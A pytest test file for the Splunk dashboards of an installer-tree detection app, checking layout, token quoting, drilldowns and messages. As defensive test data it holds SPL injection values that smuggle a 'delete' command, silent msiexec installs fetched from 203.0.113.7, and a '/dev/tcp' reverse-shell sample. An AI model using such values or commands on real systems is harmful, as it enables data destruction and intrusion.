"""The dashboards: whole and known to Splunk, safe from their tokens, and their searches executed.

test_dashboards_chromium.py shows them with Splunk's own packages.
"""

from __future__ import annotations

import json
import re
from collections import Counter
from copy import copy
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit
from xml.etree import ElementTree

import build_dashboards
import pytest
from conftest import ROOT
from dashboards.board import Board, Definition, defaults, filled, query_parameters, tokens_of
from installer_trees.model import Settings
from spl import generating
from spl.app import App
from spl.conf import stanzas
from spl.errors import SplError
from spl.macros import calls, expand
from spl.matching import Row
from spl.pipeline import Command, split

from dashboards import chromium, data

FOLDER = Path(__file__).resolve().parent / "dashboards"
DEFINITIONS = {path.stem: build_dashboards.definition(path) for path in build_dashboards.sources()}
KNOWN = json.loads((FOLDER / "known.json").read_text(encoding="utf-8"))
GRAPH = DEFINITIONS["installer_tree_graph"]
"""It has the same inputs and the same table of trees as installer_tree, and runs less."""
SETUP = DEFINITIONS["installer_setup"]
CLICK = re.compile(r"row\.(.+)\.value")
HOSTILE = [
    'a" | delete | search "',
    'a\\" | delete | search \\"',
    "a\\",
    'a" OR index=* OR x="',
    "a`installer_summary`",
    "a] | delete | append [search x",
    "a[| makeresults]",
    "$host$ $tree|s$ $$",
    "a\nb\tc",
    "a, b) OR (x",
    "'a' # -- ; %22 \u2028 \u00e9",
]
"""Values that try to become SPL."""

every = pytest.mark.parametrize("name", sorted(DEFINITIONS))


@pytest.fixture(scope="module")
def app(built_app: Path) -> App:
    return App(built_app, data.NOW)


@pytest.fixture(scope="module")
def search_head(app: App) -> dict[str, list[Row]]:
    return data.search_head(app)


@pytest.fixture(scope="module")
def activity(app: App, search_head: dict[str, list[Row]]) -> Board:
    return Board(app, search_head, DEFINITIONS["installer_activity"])


@pytest.fixture(scope="module")
def tree(app: App, search_head: dict[str, list[Row]]) -> Board:
    return Board(app, search_head, DEFINITIONS["installer_tree"])


@pytest.fixture(scope="module")
def graph(app: App, search_head: dict[str, list[Row]]) -> Board:
    return Board(app, search_head, GRAPH)


@pytest.fixture(scope="module")
def setup(app: App, search_head: dict[str, list[Row]]) -> Board:
    return Board(app, {**search_head, **data.endpoints(app)}, SETUP)


def handlers(definition: Definition) -> list[tuple[str, dict[str, Any]]]:
    """What clicks do: the data source of the panel, and the handler."""
    return [
        (panel["dataSources"]["primary"], handler)
        for panel in definition["visualizations"].values()
        for handler in panel.get("eventHandlers", [])
    ]


def addresses(definition: Definition) -> list[str]:
    links = [h["options"]["url"] for _, h in handlers(definition) if "url" in h["options"]]
    texts = [p["options"].get("markdown", "") for p in definition["visualizations"].values()]
    return links + [url for text in texts for url in re.findall(r"\]\(([^)]+)\)", text)]


# --- the files -----------------------------------------------------------------------------


def test_the_views_are_what_the_sources_say() -> None:
    for path in build_dashboards.sources():
        view = build_dashboards.VIEWS / f"{path.stem}.xml"
        assert view.read_text(encoding="utf-8") == build_dashboards.xml(path), (
            "run python tools/build_dashboards.py"
        )


@every
def test_a_view_is_a_dashboard_studio_dashboard_with_its_definition(
    built_app: Path, name: str
) -> None:
    view = ElementTree.parse(built_app / "default/data/ui/views" / f"{name}.xml").getroot()
    assert (view.tag, view.get("version"), view.get("theme")) == ("dashboard", "2", "dark")
    definition = json.loads(view.findtext("definition", ""))
    assert definition == DEFINITIONS[name]
    assert view.findtext("label") == definition["title"]
    assert view.findtext("description") == definition["description"]


@every
def test_every_panel_has_its_place_once_and_none_overlaps(name: str) -> None:
    definition = DEFINITIONS[name]
    blocks = definition["layout"]["structure"]
    places = Counter(block["item"] for block in blocks)
    assert places == dict.fromkeys(definition["visualizations"], 1)
    covered: set[tuple[int, int]] = set()
    for block in blocks:
        x, y, w, h = (block["position"][side] for side in "xywh")
        cells = {(i, j) for i in range(x, x + w, 10) for j in range(y, y + h, 10)}
        assert not cells & covered
        covered |= cells
    bottom = max(b["position"]["y"] + b["position"]["h"] for b in blocks)
    assert len(covered) == build_dashboards.WIDTH // 10 * bottom // 10


@every
def test_no_table_is_wider_than_its_panel(name: str) -> None:
    """At the width of the pictures; what is wider is cut at the edge, and has to be scrolled."""
    for block in DEFINITIONS[name]["layout"]["structure"]:
        panel = DEFINITIONS[name]["visualizations"][block["item"]]
        formats = panel["options"].get("columnFormat", {}).values()
        outer = (chromium.WIDTH - 20) * block["position"]["w"] / build_dashboards.WIDTH
        assert sum(column.get("width", 0) for column in formats) <= outer - 20, block["item"]


@every
def test_every_data_source_is_defined_and_used(name: str) -> None:
    definition = DEFINITIONS[name]
    sources = definition["dataSources"]
    used = {s for p in definition["visualizations"].values()
            for s in p.get("dataSources", {}).values()}  # fmt: skip
    used |= {s for entry in definition["inputs"].values()
             for s in entry.get("dataSources", {}).values()}  # fmt: skip
    used |= {s["options"]["extend"] for s in sources.values() if "extend" in s["options"]}
    names = {s["name"]: key for key, s in sources.items()}
    assert len(names) == len(sources)
    for source in sources.values():
        text = json.dumps(source["options"])
        used |= {names[space] for space, _, _ in tokens_of(text) if space}
    if any("$window:" in v for v in query_parameters(definition, {"options": {}}).values()):
        used.add("window")
    assert used == sources.keys()
    asked = {names[space] for s in sources.values()
             for space, _, _ in tokens_of(json.dumps(s["options"])) if space}  # fmt: skip
    assert all(sources[key]["options"].get("enableSmartSources") for key in asked)


@every
def test_every_option_is_known_to_splunks_packages(name: str) -> None:
    """known.json is what the packages say; the tests in Chromium compare the two."""
    panel_keys = {
        "type", "title", "dataSources", "options", "context", "eventHandlers", "hideWhenNoData",
    }  # fmt: skip
    column_keys = {"width", "rowBackgroundColors", "rowColors"}
    for panel in DEFINITIONS[name]["visualizations"].values():
        assert panel.keys() <= panel_keys
        options = panel.get("options", {})
        assert options.keys() <= set(KNOWN[panel["type"]])
        for column in options.get("columnFormat", {}).values():
            assert column.keys() <= column_keys
        assert panel["options"] == options
    for source in DEFINITIONS[name]["dataSources"].values():
        known = {"query", "queryParameters", "extend", "enableSmartSources"}
        assert source["options"].keys() <= known
    kinds = {"input.timerange", "input.text", "input.multiselect"}
    for entry in DEFINITIONS[name]["inputs"].values():
        assert entry["type"] in kinds
        assert entry.keys() <= {"type", "title", "dataSources", "options", "context"}
        assert entry["options"].keys() <= {"token", "defaultValue", "items"}


@every
def test_what_options_name_is_there(name: str, request: pytest.FixtureRequest) -> None:
    """Columns that options and clicks name are columns of the search; colors are in context."""
    board = request.getfixturevalue(name.rpartition("_")[2])
    for panel in DEFINITIONS[name]["visualizations"].values():
        if not panel.get("dataSources"):
            continue
        found = board.rows[panel["dataSources"]["primary"]]
        columns = {field for row in found for field in row} | OPTIONAL
        options = panel["options"]
        assert set(options.get("columnFormat", {})) <= columns
        text = json.dumps(options)
        assert set(re.findall(r"seriesByName\(\\\"(.+?)\\\"\)", text)) <= columns
        contexts = set(re.findall(r"(?:rangeValue|matchValue)\((\w+)\)", text))
        assert contexts <= panel.get("context", {}).keys()
        for handler in panel.get("eventHandlers", []):
            asked = CLICK.findall(json.dumps(handler))
            asked += re.findall(r"row\.(\w+)\.value", json.dumps(handler))
            assert {a for a in asked if re.fullmatch(r"[\w .]+", a)} <= columns


OPTIONAL = {"Why", "Known false positives", "Times", "Pattern"}
"""Columns that a tree need not have: no allowlist entry, no repeated signal."""


def test_a_score_has_the_color_of_its_severity() -> None:
    """That of a process as that of a tree, by the bands that ship; two bands color a count."""
    by_time = DEFINITIONS["installer_activity"]["visualizations"]["by_time"]
    colors = by_time["options"]["seriesColorsByField"]
    panels = (p for d in DEFINITIONS.values() for p in d["visualizations"].values())
    found = [
        ranges
        for panel in panels
        for name, ranges in panel.get("context", {}).items()
        if not name.endswith("Texts") and "match" not in ranges[0] and len(ranges) > 2
    ]
    assert len(found) > 5
    for ranges in found:
        for score in range(101):
            inside = [r for r in ranges if r.get("from", 0) <= score < r.get("to", 101)]
            assert [r["value"] for r in inside] == [colors[Settings().severity(score)]], score


# --- tokens --------------------------------------------------------------------------------


@every
def test_tokens_are_quoted_in_searches_and_encoded_in_addresses(name: str) -> None:
    definition = DEFINITIONS[name]
    inputs = defaults(definition)
    names = {source["name"] for source in definition["dataSources"].values()}
    for source in definition["dataSources"].values():
        query = source["options"]["query"]
        for space, token, filters in tokens_of(query):
            assert filters == "|s", query
            assert space in names if space else token in inputs
        assert query.count("$") == 2 * len(tokens_of(query))
        inside = [c for call in calls(query) for c in call.arguments]
        assert not [argument for argument in inside if "$" in argument]
        for value in query_parameters(definition, source).values():
            assert all(filters == "" for _, _, filters in tokens_of(value))
    for url in addresses(definition):
        assert all(filters == "|u" for _, _, filters in tokens_of(url)), url


def shape(query: str, app: App) -> list[Any]:
    """The commands of a search and their subsearches."""

    def commands(text: str) -> list[Any]:
        return [(c.name, [commands(s) for s in c.subsearches]) for c in split(text)]

    return commands(expand(query, app.macros))


def literals(commands: list[Command]) -> list[str]:
    """All quoted strings of commands, read as Splunk reads them."""
    found: list[str] = []
    for command in commands:
        for raw in re.findall(r'"(?:[^"\\]|\\.)*"', command.arguments, re.DOTALL):
            found.append(raw[1:-1].replace("\\\\", "\0").replace('\\"', '"').replace("\0", "\\"))
        for subsearch in command.subsearches:
            found += literals(split(subsearch))
    return found


@every
@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_value_stays_one_string(app: App, name: str, value: str) -> None:
    definition = DEFINITIONS[name]
    for source in definition["dataSources"].values():
        query = source["options"]["query"]
        keys = {f"{s}:{t}" if s else t for s, t, _ in tokens_of(query)}
        plain = filled(query, dict.fromkeys(keys, "x"))
        hostile = filled(query, dict.fromkeys(keys, value))
        assert shape(hostile, app) == shape(plain, app)
        written = json.loads(json.dumps(value)).replace("\n", "\\n").replace("\t", "\\t")
        strings = literals(split(expand(hostile, app.macros)))
        assert strings.count(written) == len(tokens_of(query))


@pytest.mark.parametrize("value", HOSTILE[1:10:4])
def test_a_hostile_host_or_tree_finds_nothing_and_breaks_nothing(
    app: App, search_head: dict[str, list[Row]], value: str
) -> None:
    tokens = {"host": value, "tree": value, "process": value}
    board = Board(app, search_head, GRAPH, **tokens)
    assert [row["State"] for row in board.rows["trees"]] == ["No trees"]
    assert board.rows["graph"] == []
    only = {"host": value, "user": value, "signal": value, "family": [value], "severity": [value]}
    board = Board(app, search_head, DEFINITIONS["installer_activity"], **only)
    assert board.rows["trees"] == []


def test_a_host_whose_name_is_hostile_is_opened_like_any_other(
    app: App, search_head: dict[str, list[Row]]
) -> None:
    """The name comes from the data, through the summary and a click, into the searches."""
    name = 'a" | delete \\"x\\" `m` [y]'
    rows = search_head["Endpoint.Processes"]
    moved = [{**row, "dest": name} for row in rows if row["dest"] == "websrv01"]
    renamed = {"Endpoint.Processes": moved}
    written = app.run(app.searches[data.SUMMARY]["search"], renamed, "-25h@h", "now").rows
    events = [{**data.stash(row), "index": "summary", "source": data.SUMMARY} for row in written]
    board = Board(app, {**renamed, "events": events}, DEFINITIONS["installer_activity"])
    row = board.rows["highest"][0]
    assert row["Host"] == name
    tokens = clicked(DEFINITIONS["installer_activity"], "highest", row)
    opened = Board(app, {**renamed, "events": events}, DEFINITIONS["installer_tree"], **tokens)
    shown = opened.rows["trees"][0]
    assert (shown["State"], shown["installer_tree_id"]) == ("Shown", row["_tree"])
    assert opened.rows["header"][0]["Host"] == name


# --- clicks --------------------------------------------------------------------------------


def clicked(definition: Definition, source: str, row: Row) -> dict[str, Any]:
    """The tokens of the dashboard that a click on a row opens."""
    (handler,) = [h for s, h in handlers(definition) if s == source]
    url = filled(handler["options"]["url"], {f"row.{k}.value": v for k, v in row.items()})
    query = parse_qs(urlsplit(url).query, strict_parsing=True)
    return {k.removeprefix("form.").replace(".", "__"): v[0] for k, v in query.items()}


def linked(built_app: Path) -> list[str]:
    conf = stanzas(built_app / "default" / "workflow_actions.conf")
    pages = [url for d in DEFINITIONS.values() for url in addresses(d)]
    return pages + [keys["link.uri"] for keys in conf.values()]


def test_every_link_leads_to_a_view_and_sets_its_inputs(built_app: Path) -> None:
    views = {path.stem for path in (built_app / "default/data/ui/views").glob("*.xml")}
    assert len(linked(built_app)) > 8
    for url in linked(built_app):
        parts = urlsplit(url)
        _, place, app_id, view = parts.path.split("/")
        assert (place, app_id) == ("app", "TA-installerscore")
        assert view in views | {"search"}
        for parameter in parse_qs(parts.query, strict_parsing=True):
            if view in DEFINITIONS:
                assert parameter.removeprefix("form.") in defaults(DEFINITIONS[view]), url


def test_searches_in_links_are_reports_of_the_app(app: App, built_app: Path) -> None:
    """The text itself: `savedsearch` does not run a search of several lines."""
    asked = [parse_qs(urlsplit(url).query) for url in linked(built_app)]
    (link,) = [keys for keys in asked if "q" in keys]
    report = app.searches["Installer Score - Data Health"]
    assert link["q"] == [" ".join(report["search"].split())]
    times = [report["dispatch.earliest_time"], report["dispatch.latest_time"]]
    assert [*link["earliest"], *link["latest"]] == times


@every
def test_clicks_set_tokens_of_inputs(name: str) -> None:
    definition = DEFINITIONS[name]
    for source, handler in handlers(definition):
        if handler["type"] == "drilldown.setToken":
            (token,) = handler["options"]["tokens"]
            assert token["token"] in defaults(definition), source
            assert ("value" in token) != ("key" in token)
        else:
            assert handler["type"] == "drilldown.customUrl"
            assert handler["options"]["newTab"] is True


def test_a_click_on_any_tree_opens_that_tree(
    app: App, search_head: dict[str, list[Row]], activity: Board
) -> None:
    for row in activity.rows["newest"][::9]:
        tokens = clicked(activity.definition, "newest", row)
        board = Board(app, search_head, GRAPH, **tokens)
        shown = board.rows["trees"][0]
        assert (shown["State"], shown["installer_tree_id"]) == ("Shown", row["_tree"])
        assert len(board.rows["graph"]) == min(int(row["Processes"]), 40)


@pytest.mark.parametrize("action", ["guid", "id"])
def test_a_workflow_action_on_an_event_finds_the_tree_of_its_process(
    app: App, search_head: dict[str, list[Row]], built_app: Path, action: str
) -> None:
    conf = stanzas(built_app / "default" / "workflow_actions.conf")
    keys = conf[f"installer_tree_of_process_{action}"]
    event = next(e for e in search_head["Endpoint.Processes"] if "/dev/tcp/" in e["process"])
    assert all(event.get(field.strip()) for field in keys["fields"].split(","))
    tokens = opened_by(keys["link.uri"], event)
    board = Board(app, search_head, GRAPH, **tokens)
    assert board.rows["trees"][0]["State"] == "Shown"
    assert "evil_revshell" in board.rows["trees"][0]["Command"]


def test_the_workflow_action_on_a_risk_event_opens_its_tree(
    app: App, search_head: dict[str, list[Row]], built_app: Path
) -> None:
    conf = stanzas(built_app / "default" / "workflow_actions.conf")
    keys = conf["installer_tree_of_finding"]
    for event in [e for e in search_head["events"] if e["index"] == "risk"][::7]:
        assert all(event.get(field.strip()) for field in keys["fields"].split(","))
        tokens = opened_by(keys["link.uri"], event)
        no_summary = {**search_head, "events": []}
        board = Board(app, no_summary, GRAPH, **tokens)
        assert board.rows["trees"][0]["State"] == "Shown"
        assert board.rows["trees"][0]["installer_tree_id"] == event["installer_tree_id"]


def test_the_link_to_a_tree_of_one_process_is_a_time_range(app: App, built_app: Path) -> None:
    """Its first and last time are the same, and Splunk refuses a range that ends as it begins."""
    conf = stanzas(built_app / "default" / "workflow_actions.conf")
    keys = conf["installer_tree_of_finding"]
    process = {
        "_time": data.NOW - 7200,
        "dest": "h",
        "process_id": 7,
        "process_name": "msiexec.exe",
    }
    command = "msiexec /q /i http://203.0.113.7/a.msi"
    events = {"Endpoint.Processes": [{**process, "process": command}]}
    lowest = {"installer_risk_threshold": "0", "installer_notable_threshold": "0"}
    high = data.RISK.replace("Score", "Score High")
    for name in (data.RISK, high, data.SUMMARY):
        (row,) = app.run(app.searches[name]["search"], events, "-4h", "now", lowest).rows
        assert row["first_time"] == row["last_time"]
        tokens = opened_by(keys["link.uri"], data.stash(row))
        span = float(tokens["range__latest"]) - float(tokens["range__earliest"])
        assert 1 <= span <= 2
        board = Board(app, events, GRAPH, **tokens)
        assert board.rows["trees"][0]["State"] == "Shown"


def test_an_event_without_a_time_is_looked_up_seven_days_back(built_app: Path) -> None:
    """As docs/dashboards.md says: an event is often looked at days later."""
    conf = stanzas(built_app / "default" / "workflow_actions.conf")
    for action in ("guid", "id"):
        query = parse_qs(urlsplit(conf[f"installer_tree_of_process_{action}"]["link.uri"]).query)
        assert query["form.at"] == ["$_time$"]
        assert query["form.range.earliest"] == ["-7d@d"]
        assert query["form.range.latest"] == ["now"]


def used_again() -> dict[str, list[Row]]:
    """Process id 7 of one host on three days; the tree of the day in the middle scores highest."""
    process = {"dest": "h", "process_id": "7", "process_name": "msiexec.exe"}
    quiet, loud = "msiexec /i C:\\a.msi", "msiexec /q /i http://203.0.113.7/b.msi"
    days = [(9, quiet), (5, loud), (1, quiet)]
    rows = [{**process, "_time": data.NOW - day * 86400, "process": text} for day, text in days]
    return {"Endpoint.Processes": rows}


@pytest.mark.parametrize("written", ["seconds", "ISO 8601"])
@pytest.mark.parametrize(("day", "command"), [(9, "a.msi"), (5, "b.msi"), (1, "a.msi")])
def test_the_tree_of_an_event_is_that_of_its_day(
    app: App, built_app: Path, day: int, command: str, written: str
) -> None:
    """Whichever way Splunk Web writes the time; nine days ago is before the time range."""
    conf = stanzas(built_app / "default" / "workflow_actions.conf")
    moment = data.NOW - day * 86400 + 60.5
    iso = datetime.fromtimestamp(moment, timezone(timedelta(hours=2))).isoformat(
        "T", "milliseconds"
    )
    event = {"dest": "h", "process_id": "7", "_time": str(moment) if written == "seconds" else iso}
    tokens = opened_by(conf["installer_tree_of_process_id"]["link.uri"], event)
    board = Board(app, used_again(), GRAPH, **tokens)
    (shown,) = board.rows["trees"]
    assert (shown["State"], shown["Note"]) == ("Shown", "")
    assert command in shown["Command"]
    assert abs(epoch_of(shown["Started"]) - (data.NOW - day * 86400)) < 1


def epoch_of(started: str) -> float:
    moment = datetime.strptime(started, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc)
    return moment.timestamp()


@pytest.mark.parametrize(
    ("hours", "shown"),
    [(0.5, "early.msi"), (2.5, "loud.msi"), (4.5, "late.msi"), (-1, "early.msi")],
)
def test_of_trees_of_one_day_that_hold_an_id_the_one_before_the_event_is_shown(
    app: App, hours: float, shown: str
) -> None:
    process = {"dest": "h", "process_id": "7", "process_name": "msiexec.exe"}
    start = data.NOW - 10 * 3600
    lines = [
        "msiexec /i early.msi",
        "msiexec /q /i http://203.0.113.7/loud.msi",
        "msiexec /i late.msi",
    ]
    rows = [{**process, "_time": start + n * 7200, "process": line} for n, line in enumerate(lines)]
    site = {"Endpoint.Processes": rows}
    at = str(start + hours * 3600)
    trees = Board(app, site, GRAPH, host="h", process="7", at=at).rows["trees"]
    assert shown in trees[0]["Command"]
    assert trees[0]["Note"].startswith("3 trees hold this process id: shown is the one nearest")
    assert {row["Note"] for row in trees[1:]} == {
        "Holds this process id too. Click to show this one."
    }


def test_several_trees_that_hold_an_id_are_said_where_no_time_is_known(app: App) -> None:
    tokens = {"host": "h", "process": "7", "range__earliest": "-10d"}
    trees = Board(app, used_again(), GRAPH, **tokens).rows["trees"]
    assert "b.msi" in trees[0]["Command"]
    assert trees[0]["Note"].startswith("3 trees hold this process id: the highest is shown.")
    other = Board(app, used_again(), GRAPH, tree=trees[1]["installer_tree_id"], **tokens)
    first = other.rows["trees"][0]
    assert (first["installer_tree_id"], first["Note"]) == (trees[1]["installer_tree_id"], "")


@every
def test_a_token_is_no_argument_of_tonumber(name: str) -> None:
    """A literal that is no number is an error to Splunk, and such a field is null."""
    for source in DEFINITIONS[name]["dataSources"].values():
        assert not re.search(r"tonumber\(\s*[$\"]", source["options"]["query"])


def opened_by(uri: str, event: Row) -> dict[str, Any]:
    """The tokens that a workflow action gives; Splunk encodes the values."""
    filled_in = filled(re.sub(r"\$(\w+)\$", r"$\1|u$", uri), event)
    query = parse_qs(urlsplit(filled_in).query, strict_parsing=True)
    return {k.removeprefix("form.").replace(".", "__"): v[0] for k, v in query.items()}


# --- what is shown -------------------------------------------------------------------------


def test_activity_counts_each_tree_once(activity: Board, search_head: dict[str, list[Row]]) -> None:
    written = [e for e in search_head["events"] if e["index"] == "summary"]
    (counts,) = activity.rows["counts"]
    assert counts["trees"] == len(written) == len(activity.rows["trees"])
    severities = Counter(e["installer_severity"] for e in written)
    assert counts["critical"] == severities["critical"] > 5
    assert counts["high"] == severities["high"]
    assert counts["hosts"] == len({e["dest"] for e in written})
    for source in ("by_time", "by_family"):
        rows = activity.rows[source]
        assert sum(float(row.get(s) or 0) for row in rows for s in severities) == len(written)
    assert sum(float(row["Trees"]) for row in activity.rows["users"]) == len(written)
    scores = [float(row["Score"]) for row in activity.rows["highest"]]
    assert scores == sorted(scores, reverse=True)
    times = [row["Time"] for row in activity.rows["newest"]]
    assert times == sorted(times, reverse=True)


@pytest.mark.parametrize(
    ("tokens", "source", "expected"),
    [
        ({"host": "WKS-*"}, "hosts", {"WKS-DEV-12", "WKS-FIN-07", "WKS-OPS-21"}),
        ({"user": "CORP\\pnovak"}, "users", {"CORP\\pnovak"}),
        ({"family": ["npm", "node"]}, "by_family", {"node"}),
        ({"severity": "critical"}, "highest", {"critical"}),
        ({"severity": ["high", "medium"]}, "newest", {"high", "medium"}),
        ({"signal": "LNX006"}, "highest", {"critical"}),
        ({"range__earliest": "-2h", "range__latest": "now"}, "hosts", {"websrv01"}),
    ],
)
def test_filters(
    app: App,
    search_head: dict[str, list[Row]],
    tokens: dict[str, Any],
    source: str,
    expected: set[str],
) -> None:
    board = Board(app, search_head, DEFINITIONS["installer_activity"], **tokens)
    column = {"hosts": "Host", "users": "User", "by_family": "installer_family"}
    found = {row[column.get(source, "Severity")] for row in board.rows[source]}
    assert found == expected


def test_the_tree_says_what_the_command_says(app: App, tree: Board) -> None:
    (row,) = tree.rows["tree"]
    details = row["signal_detail"]
    reasons = tree.rows["reasons"]
    assert [r["Signal"] for r in reasons] == row["signal"]
    for reason, detail in zip(reasons, details):
        assert f"+{reason['Points']}" in detail
        assert detail.endswith(reason["What matched"])
        assert reason["Reason"] in detail
        assert reason["Why it counts"]
    lines = [line["Tree"].replace("\u00a0", " ") for line in tree.rows["text"]]
    assert lines == [line.split("  <-- ")[0] for line in row["tree"]]
    marked = [line.get("Signals") for line in tree.rows["text"]]
    assert sum(m is not None for m in marked) == sum("<--" in line for line in row["tree"])
    assert len(tree.rows["paths"]) == int(row["process_count"])
    (score,) = tree.rows["score"]
    assert score["installer_score"] == row["installer_score"]
    assert float(tree.rows["header"][0]["Score in the summary"]) <= float(row["installer_score"])


def test_the_picture_shows_the_path_to_every_process(tree: Board) -> None:
    names = ["Installer", *(f"Level {i}" for i in range(1, 7))]
    drawn = {row[names[i]].split(" [")[0] for row in tree.rows["paths"]
             for i in range(7) if row[names[i]]}  # fmt: skip
    processes = [r for r in tree.rows["processes"] if r["kind"] == "process"]
    (asked,) = {r["installer_tree_id"] for r in tree.rows["tree"]}
    nodes = {r["node"]: r for r in processes if r["installer_tree_id"] == asked}
    assert drawn == set(nodes)
    for row in tree.rows["paths"]:
        path = [row[name].split(" [")[0] for name in names if row[name]]
        assert [nodes[node]["parent_node"] for node in path] == ["", *path[:-1]]


def test_a_large_tree_is_drawn_with_all_that_led_to_its_signals(
    app: App, search_head: dict[str, list[Row]]
) -> None:
    """apt-get with 90 processes: 40 paths at most, and the graph has no loose ends."""
    tokens = {"host": "websrv01", "range__earliest": "-26h"}
    trees = Board(app, search_head, GRAPH, **tokens).rows["trees"]
    (large,) = [t["installer_tree_id"] for t in trees if float(t["Processes"]) > 80]
    graph = Board(app, search_head, GRAPH, tree=large, **tokens)
    nodes = {row["Node"] for row in graph.rows["graph"]}
    assert 40 <= len(nodes) <= 90
    assert {row["Parent"] for row in graph.rows["graph"]} <= nodes
    places = {row["Node"]: (row["_x"], row["_y"]) for row in graph.rows["graph"]}
    assert len(set(places.values())) == len(nodes)
    for axis, middle in ((0, -340), (1, -290)):
        ends = [place[axis] for place in places.values()]
        assert abs((min(ends) + max(ends)) / 2 - middle) <= 1
    for row in graph.rows["graph"][1:]:
        assert places[row["Node"]][0] > places[row["Parent"]][0]
        assert places[row["Node"]][1] >= places[row["Parent"]][1]
    board = Board(app, search_head, DEFINITIONS["installer_tree"], tree=large, **tokens)
    assert len(board.rows["paths"]) == 40


def test_events_of_the_processes_are_listed_and_in_the_timeline(
    app: App, search_head: dict[str, list[Row]]
) -> None:
    board = Board(app, search_head, DEFINITIONS["installer_tree"], host="WKS-FIN-07")
    touched = {(row["Event"], row["Target"]) for row in board.rows["touched"]}
    assert {event for event, _ in touched} == {"network", "file", "registry"}
    assert any("CurrentVersion\\Run" in target for _, target in touched)
    times = [float(row["+ s"]) for row in board.rows["timeline"]]
    assert times == sorted(times)
    assert times[0] == 0
    kinds = Counter(row["Event"] for row in board.rows["timeline"])
    assert kinds["process"] == int(board.rows["tree"][0]["process_count"])
    assert kinds["registry"] == 1


@pytest.mark.parametrize("names", [{"src": "192.0.2.4", "dvc": "h"}, {"src": "h.corp", "dvc": "h"}])
def test_what_an_event_does_not_say_is_not_shown(app: App, names: dict[str, str]) -> None:
    """CIM fills a missing port with 0 and missing registry data with `unknown`."""
    event = {"_time": data.NOW - 1800, "dest": "h", "process_id": 7}
    process = {**event, "process_name": "msiexec.exe", "process": "msiexec /i C:\\a.msi"}
    told = {
        "Endpoint.Processes": [process],
        "Network_Traffic.All_Traffic": [{**event, **names, "dest": "203.0.113.7"}],
        "Endpoint.Registry": [{**event, "registry_path": "HKLM\\Software\\a"}],
    }
    board = Board(app, told, DEFINITIONS["installer_tree"], host="h")
    targets = [row["Target"] for row in board.rows["touched"]]
    assert sorted(targets) == ["203.0.113.7", "HKLM\\Software\\a"]
    assert len(board.rows["timeline"]) == 3


def test_what_lowered_a_score_is_said_with_its_reason(
    app: App, search_head: dict[str, list[Row]], tree: Board
) -> None:
    event = next(e for e in search_head["events"] if "ALW001" in e.get("allowlist", ""))
    tokens = {"host": event["dest"], "tree": event["installer_tree_id"]}
    tokens["range__earliest"] = "-26h"
    rows = Board(app, search_head, DEFINITIONS["installer_tree"], **tokens).rows["lowered"]
    allowed = [row for row in rows if row["What"] == "Allowlist"]
    assert any("ALW001" in row["How"] and row["Why"] for row in allowed)
    assert not [row for row in rows if row["What"] == "Nothing"]
    assert any(row["What"] == "Seen" and "summary" in row["How"] for row in rows)
    assert [row["How"] for row in tree.rows["lowered"] if row["What"] == "Nothing"]


@pytest.mark.parametrize(("days", "shown"), [(1, True), (-1, False)])
def test_an_expired_entry_of_the_baseline_is_not_said_to_have_lowered_a_score(
    app: App, search_head: dict[str, list[Row]], tree: Board, days: int, shown: bool
) -> None:
    (told,) = [row["How"] for row in tree.rows["lowered"] if "fingerprint" in row["How"]]
    mark = told.removeprefix("fingerprint ")
    entry = {"_key": mark, "tree_fingerprint": mark, "hosts": "77"}
    entry["expires"] = str(data.NOW + 86_400 * days)
    kept = app.lookups["installerscore_baseline"]
    later = copy(app)
    later.lookups = {
        **app.lookups,
        "installerscore_baseline": kept._replace(
            rows=[{**dict.fromkeys(kept.columns, ""), **entry}]
        ),
    }
    query = tree.searches["lowered"]
    rows = later.postprocess(query, tree.rows["tree"], "-26h", "now").rows
    assert ("hosts in the prevalence baseline: 77" in {row["How"] for row in rows}) is shown


def test_patterns_for_the_allowlist_match_what_they_were_made_from(tree: Board) -> None:
    rows = [row for row in tree.rows["allow"] if row.get("Pattern")]
    assert {row["Field"] for row in rows} >= {"process", "user"}
    for row in rows:
        assert re.fullmatch(row["Pattern"], row["Value"])
        assert row["Pattern"].startswith("(?i)^")
        assert row["Pattern"].endswith("$")


def test_risk_and_history_are_those_of_the_host_and_the_person(tree: Board) -> None:
    host, user = tree.rows["header"][0]["Host"], tree.rows["header"][0]["User"]
    assert {row["Risk object"] for row in tree.rows["risk"]} == {host, user}
    assert len(tree.rows["history"]) > 5
    assert all(row["Host"] == host or row["User"] == user for row in tree.rows["history"])


# --- nothing to show -----------------------------------------------------------------------


def test_an_empty_search_head_says_why_and_what_to_do(app: App) -> None:
    activity = Board(app, {}, DEFINITIONS["installer_activity"])
    (health,) = activity.rows["health"]
    assert health["State"] == "No process events"
    assert "CIM add-on" in health["What to do"]
    assert activity.rows["counts"][0]["trees"] == 0
    for source in ("highest", "newest"):
        assert "widen them" in activity.rows[source][0]["Command"]
    tree = Board(app, {}, DEFINITIONS["installer_tree"])
    (first,) = tree.rows["trees"]
    assert "Type a host" in first["Note"]
    assert "see the first table" in tree.rows["message"][0]["In one sentence"]
    for source, column in (("touched", "Target"), ("risk", "Message"), ("history", "Command")):
        assert tree.rows[source][0][column].endswith(".")


def test_events_without_a_summary_say_which_search_to_enable(
    app: App, search_head: dict[str, list[Row]]
) -> None:
    board = Board(app, {**search_head, "events": []}, DEFINITIONS["installer_activity"])
    (health,) = board.rows["health"]
    assert health["State"] == "No trees written"
    assert data.SUMMARY in health["What to do"]
    assert data.SUMMARY in app.searches


def test_a_tree_that_is_not_there_says_so_and_shows_the_highest(
    app: App, search_head: dict[str, list[Row]]
) -> None:
    tokens = {"host": "websrv01", "tree": "gone"}
    board = Board(app, search_head, GRAPH, **tokens)
    first = board.rows["trees"][0]
    assert first["State"] == "Not found"
    assert "The highest tree of the host is shown" in first["Note"]
    assert float(first["Score"]) == max(float(t["Score"]) for t in board.rows["trees"])


def test_a_host_that_is_not_known_says_what_to_check(
    app: App, search_head: dict[str, list[Row]]
) -> None:
    board = Board(app, search_head, GRAPH, host="nobody")
    assert "Check the spelling" in board.rows["trees"][0]["Note"]


# --- the set-up check ----------------------------------------------------------------------


def checks(board: Board) -> dict[str, tuple[str, str, str]]:
    return {
        row["Check"]: (row["State"], row["Found"], row["What to do"])
        for row in board.rows["installed"] + board.rows["data"]
    }


def test_the_setup_check_of_a_fresh_install(setup: Board) -> None:
    """The sample's events, an accelerated model, and nothing enabled or changed yet."""
    found = checks(setup)
    states = {check: state for check, (state, _, _) in found.items()}
